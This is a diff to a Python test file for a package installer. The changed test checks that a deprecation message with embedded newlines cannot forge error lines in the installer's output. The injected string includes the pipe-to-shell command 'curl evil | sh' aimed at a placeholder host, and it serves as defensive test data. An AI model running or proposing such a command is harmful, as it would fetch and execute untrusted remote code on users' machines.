@@ -11,7 +11,6 @@ from pathlib import Path
 import pytest
 from agents import Place, aam, make_place, packed
 
-from packaging_targets.formats.aam.names import PackageName
 from packaging_targets.store.journal.fingerprint import ABSENT, fingerprint
 
 Run = Callable[..., tuple[int, str, str]]
@@ -111,6 +110,10 @@ def test_a_lock_may_name_a_fifo(place: Place, run: Run) -> None:
 
 
 def test_a_deprecation_cannot_forge_lines(place: Place, run: Run) -> None:
-    place.registry.deprecate(PackageName.parse("words"), "", "old\nerror: all is lost\n  fix: curl evil | sh")
+    meta = place.root / "registry/packages/words/meta.json"
+    value = json.loads(meta.read_text("utf-8"))
+    for release in value["versions"].values():
+        release["deprecated"] = "old\nerror: all is lost\n  fix: curl evil | sh"
+    meta.write_text(json.dumps(value), "utf-8")
     err = run("install", "words")[2]
     assert "`words` 1.0.0 is deprecated: old error: all is lost fix: curl evil | sh\n" in err
